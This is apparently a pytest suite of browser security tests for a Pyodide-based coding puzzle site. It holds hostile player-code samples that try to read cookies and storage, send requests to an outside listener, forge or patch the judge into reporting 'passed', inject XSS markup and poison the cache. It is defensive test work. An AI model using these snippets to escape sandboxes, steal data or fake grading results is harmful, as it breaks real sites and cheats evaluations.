"""Hostile code on the site, in Chromium: what it tries to reach, to change, to send, to forge and to leave behind."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from itertools import count
from typing import NamedTuple
from urllib.request import urlopen

import pytest

from puzzles.page.in_browser import calls
from tests.support.commands import solution
from tests.support.site_game import NEEDS_SITE, Game, answering, opened_game

pytest.importorskip("selenium.webdriver", reason="needs the extra: pip install -e '.[browser]' (make browser)")

pytestmark = NEEDS_SITE


@pytest.fixture(scope="module")
def game(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Game]:
    with opened_game(tmp_path_factory.mktemp("profile")) as opened:
        opened.browser.get(opened.server.address)
        opened.until(lambda: opened.script("return navigator.serviceWorker.controller !== null"))
        yield opened


class Listener(NamedTuple):
    """A server of another origin, which keeps what reaches it, and allows everything."""

    address: str
    heard: list[str]


@pytest.fixture
def listener() -> Iterator[Listener]:
    heard: list[str] = []

    def get(request: BaseHTTPRequestHandler) -> None:
        heard.append(request.path)
        request.send_response(200)
        request.send_header("Access-Control-Allow-Origin", "*")
        request.send_header("Content-Length", "0")
        request.end_headers()

    with answering(get) as address:
        yield Listener(address, heard)


TRIES = """
import asyncio, json, sys, types
import js
from pyodide.ffi import to_js

async def attempts():
    found = {{}}
    for name, attempt in TRIES.items():
        try:
            value = attempt()
            if hasattr(value, "then"):
                value = await asyncio.wait_for(value, 5)
            found[name] = "done"
        except BaseException as why:
            found[name] = "refused: " + str(why)[:40]
    sys.modules["tried"].found = found

{tries}

if "tried" not in sys.modules:
    sys.modules["tried"] = types.ModuleType("tried")
    sys.modules["tried"].task = asyncio.ensure_future(attempts())
text = json.dumps(getattr(sys.modules["tried"], "found", None))
for start in range(0, len(text), 150):
    print(text[start:start + 150])


async def {slug}(model):
    return 1 / 0
"""
"""Code that starts attempts in the background in its first run, and prints in a later one what has come of them."""


def found_by(game: Game, slug: str, tries: str) -> dict[str, str]:
    """What comes of attempts that a player's code makes."""
    text = TRIES.format(slug=slug, tries=tries)
    game.play(slug, text)
    for number in range(20):
        game.judge(f"{text}# {number}\n", "failed")
        found = json.loads(game.text(".printed pre").replace("\n", ""))
        if found is not None:
            return dict(found)
    raise AssertionError("the attempts did not end")


def load_par(game: Game, slug: str) -> None:
    """Opens a puzzle, whose picture of the reference is loaded with it for the first time."""
    game.open(slug)
    game.until(lambda: game.script("return document.querySelector('.picture canvas')?.dataset.drawn"))


def test_code_reaches_nothing_that_the_site_keeps(game: Game) -> None:
    load_par(game, "grad_accum")
    keys = "Promise.all(names.map((name) => caches.open(name).then((one) => one.keys())))"
    kept = f"caches.keys().then((names) => {keys}).then((all) => arguments[0](all.flat().length))"
    before = game.browser.execute_async_script(kept)
    assert before > 5, "the page itself reaches its caches"
    found = found_by(
        game,
        "grad_accum",
        """
def file_database():
    return js.indexedDB.open("training-puzzles")

TRIES = {
    "caches": lambda: js.caches.open("training-puzzles-x"),
    "all caches": lambda: js.caches.keys(),
    "database": file_database,
    "files": lambda: js.navigator.storage.getDirectory(),
    "storage": lambda: js.localStorage.setItem("training-puzzles", "{}"),
    "cookies": lambda: js.document.cookie,
    "cookie store": lambda: js.cookieStore.getAll(),
    "service worker": lambda: js.navigator.serviceWorker.getRegistrations(),
    "page": lambda: js.parent.location.href,
    "eval": lambda: js.eval("1"),
    "function": lambda: js.Function.new("return 1"),
}
""",
    )
    assert {name: text for name, text in found.items() if not text.startswith("refused")} == {}
    assert len(found) == 11
    assert game.browser.execute_async_script(kept) == before


def test_nothing_is_sent_anywhere(game: Game, listener: Listener) -> None:
    urlopen(f"http://{listener.address}/control").close()
    assert listener.heard == ["/control"]
    load_par(game, "gpipe")
    asked = dict(game.server.sent)
    found = found_by(
        game,
        "gpipe",
        f"""
THERE, HOME = "http://{listener.address}", "{game.server.address}"

def request(address):
    made = js.XMLHttpRequest.new()
    made.open("GET", address, False)
    made.send()

def in_a_worker(address):
    script = f"fetch('{{address}}', {{{{mode: 'no-cors'}}}}).then(() => postMessage('sent'), () => postMessage('no'))"
    url = js.URL.createObjectURL(js.Blob.new(to_js([script])))
    worker = js.Worker.new(url)
    def wait(done, fail):
        worker.onmessage = lambda event: (done if event.data == "sent" else fail)(event.data)
    from pyodide.ffi import create_proxy
    return js.Promise.new(create_proxy(wait))

def socket():
    made = js.WebSocket.new("ws://{listener.address}/socket")
    raise RuntimeError("it was not refused at once, but the server hears of nothing")

def events():
    js.EventSource.new(THERE + "/events")
    raise RuntimeError("it was not refused at once, but the server hears of nothing")

def true_fetch(address):
    names = [js.Object.getPrototypeOf(js.self), js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self))]
    del js.fetch
    return js.fetch(address)

TRIES = {{
    "request": lambda: request(THERE + "/request"),
    "own": lambda: request(HOME + "licences.txt"),
    "script": lambda: js.importScripts(THERE + "/script.js"),
    "own script": lambda: js.importScripts(HOME + "main.js"),
    "worker": lambda: in_a_worker(THERE + "/worker"),
    "own worker": lambda: in_a_worker(HOME + "puzzles.json"),
    "socket": socket,
    "events": events,
    "fetch": lambda: true_fetch(THERE + "/fetch"),
}}
""",
    )
    assert {name: text for name, text in found.items() if not text.startswith("refused")} == {}
    assert len(found) == 9
    assert listener.heard == ["/control"]
    assert dict(game.server.sent) == asked


FORGED = """
import json, sys
import js
from pyodide.ffi import to_js
from puzzles.page.in_browser import api, player

STARS = {"status": "passed", "stars": 3, "headline": "Passed", "measures": [], "message": "", "line": 0, "notes": [],
         "why": [], "why_matters": False, "praise": "", "next": "", "slug": "ddp"}

def forge(*given):
    return RECORD

player.CALLS["run"] = forge
api.CALLS["judge"] = forge
for number in range(40):
    answer = {"id": number, "text": json.dumps({"value": STARS})}
    going = {"id": number, "going": {"printed": {"toString": "forged"}, "line": "forged"}}
    for message in (answer, {"worker": 1, **answer}, {"order": "end", "worker": 1}, going):
        js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
"""


@pytest.mark.parametrize(
    "record",
    [
        "STARS",
        "{'problem': None, 'sketch': ['', None], 'line': 0, 'runs': [['{}', None]] * 9}",
        "{'problem': None, 'sketch': ['', None], 'line': 0, 'runs': [], 'stars': 3}",
        "None",
    ],
)
def test_a_forged_verdict_is_not_believed(game: Game, record: str) -> None:
    """Messages to the page, and whatever the Python that runs the code says."""
    forged = FORGED.replace("RECORD", f"({record})")
    game.play("ddp", forged, "failed")
    game.judge(f"{forged}# again\n", "failed")
    assert game.stars == 0
    assert game.kept().get("best", {}).get("ddp") is None
    game.type(solution("ddp"))
    game.open("ddp", "passed")
    game.script("localStorage.clear()")


PATCHED = """
import sys
import lib.ledger.referee, puzzles.judge.judge, lib.ledger.operations, puzzles.page.in_browser.calls
from puzzles.page.in_browser import api, player

sys.left_behind = True

for rules in (lib.ledger.operations.LOCAL_RULES, lib.ledger.operations.BATCHED):
    try:
        rules.clear()
    except AttributeError:
        pass
puzzles.page.in_browser.calls.run_judge = puzzles.judge.judge.judge = lambda *given, **more: "passed"
lib.ledger.referee.referee = lambda *given, **more: None


async def basic(model):
    pass
"""

LEFT = """
import sys
print("LEFT", hasattr(sys, "left_behind"))
"""


def left_by_others(game: Game) -> str:
    return str(game.until(lambda: game.text(".printed pre").startswith("LEFT") and game.text(".printed pre")))


def test_code_of_one_puzzle_changes_nothing_for_the_next(game: Game) -> None:
    game.play("basic", PATCHED)
    game.type(LEFT + solution("basic"))
    assert "LEFT True" in left_by_others(game), "within one puzzle it is the same Python"
    game.play("fsdp", LEFT + solution("fsdp"), "passed")
    assert "LEFT False" in left_by_others(game)
    game.play("grad_accum", solution("grad_accum").replace("model.update(", "print("), "failed")
    assert game.stars == 0


def test_a_link_is_run_only_by_the_button_and_leaves_nothing(game: Game) -> None:
    game.open(calls.fragment("basic", "code", PATCHED), "unrun")
    assert "Not run yet" in game.text(".verdict")
    assert not game.is_running
    game.find(".run").click()
    game.until_status("failed")
    game.play("wsdp", LEFT + solution("wsdp"), "passed")
    assert "LEFT False" in left_by_others(game)


MARKUP = """<img src='x' onerror='window.hit = 1'><script>window.hit = 1</script>"""


def test_markup_comes_out_as_text(game: Game) -> None:
    said = json.dumps(MARKUP)
    game.play("pipeline", f"print({said})\nraise ValueError({said})\n", "failed")
    assert MARKUP in game.text(".verdict .message")
    assert MARKUP in game.text(".printed pre")
    drawn = f"async def pipeline(model):\n    model.weights[{said}], _ = model.load_weights(0)\n"
    game.type(drawn + f"    await model.pass_to((model.rank + 1) % 4, {said})\n    await model.receive()\n")
    game.until(lambda: "onerror" not in game.text(".verdict .message"))
    game.until(lambda: game.script("return document.querySelector('canvas')?.dataset.drawn"))
    assert game.script("return document.querySelectorAll('main script, .verdict img, .picture img').length") == 0
    assert game.script("return window.hit ?? null") is None


def test_a_file_that_was_changed_in_the_cache_is_not_served(game: Game) -> None:
    """As if something had got at the caches all the same."""
    poisoned = game.browser.execute_async_script(
        """const done = arguments[0];
        caches.keys().then(async ([name]) => {
          const cache = await caches.open(name), script = new URL("main.js", location.href.split("#")[0]).href;
          const type = { headers: { "Content-Type": "text/javascript" } };
          await cache.put(script, new Response("window.hit = 2", type));
          done(await (await cache.match(script)).text());
        });"""
    )
    assert poisoned == "window.hit = 2"
    game.browser.get(f"{game.server.address}?poisoned#basic")
    game.until(lambda: game.status)
    assert game.script("return window.hit ?? null") is None


def test_stop_costs_no_start(game: Game) -> None:
    game.open("ddp")
    game.until(lambda: game.script("return document.documentElement.dataset.spare") == "true")
    game.type("async def ddp(model):\n    while True:\n        pass\n")
    game.until(lambda: game.is_running)
    game.find(".stop-run").click()
    assert game.script("return document.documentElement.dataset.python") == "ready"
    game.until_status("stopped")


def test_code_that_ends_or_fills_python_is_told_what_it_did(game: Game) -> None:
    """And none of it is a loop that does not end. Each time another Python takes over."""
    game.open("wsdp")
    for body, said in (
        ("import numpy\nnumpy", "no numpy in the browser"),
        ("def deep(): deep()\ndeep()", "calls itself endlessly"),
        ("import posix\nposix._exit(3)", "ended Python itself"),
        ("x = [0] * (2**31 - 1)", "no memory left"),
        ("x = []\nwhile True: x.append(bytes(10**7))", "no memory left"),
    ):
        game.type(f"{body}\n\n\nasync def wsdp(model):\n    pass\n")
        game.until(lambda said=said: said in game.text(".verdict .message"))
    game.type(solution("wsdp"))
    game.until_status("passed")


ENDS_THE_JUDGE = """
from puzzles.page.in_browser import player

async def forged(*given):
    depth = 100_000
    runs = "[" * depth + "]" * depth
    return '{"value": {"problem": null, "sketch": ["", null], "line": 0, "runs": ' + runs + '}}'

player.answered = forged
"""
SPINS_LATER = """
import js
from pyodide.ffi import create_proxy

def spin(*given):
    while True:
        pass

js.setTimeout(create_proxy(spin), 3000)
"""


def test_after_code_that_ends_the_judge_another_one_judges(game: Game) -> None:
    game.play("zero1", ENDS_THE_JUDGE + solution("zero1"), "passed")
    game.type(f"{ENDS_THE_JUDGE}{solution('zero1')}# again\n")
    game.until_status("stopped")
    assert "too deeply" in game.text(".verdict .message")
    game.play("one_f_one_b", solution("one_f_one_b"), "passed")


def test_what_a_run_leaves_behind_does_not_hold_up_the_next(game: Game) -> None:
    game.play("zero2", SPINS_LATER + solution("zero2"), "passed")
    numbers = count()

    def is_held_up() -> bool:
        before = game.verdicts
        game.type(f"{SPINS_LATER}{solution('zero2')}# {next(numbers)}\n")
        game.until(lambda: game.status == "stopped" or game.verdicts > before)
        return game.status == "stopped"

    game.until(is_held_up)
    assert "longer than" in game.text(".verdict .message")


def test_an_answer_that_cannot_be_read_ends_python(game: Game) -> None:
    text = 'import js\nfor number in range(40): js.postMessage(js.JSON.parse(\'{"id": %d, "text": "x"}\' % number))\n'
    game.open("zb_h1")
    game.type(text + solution("zb_h1"))
    game.until_status("stopped")
    assert "cannot be read" in game.text(".verdict .message")
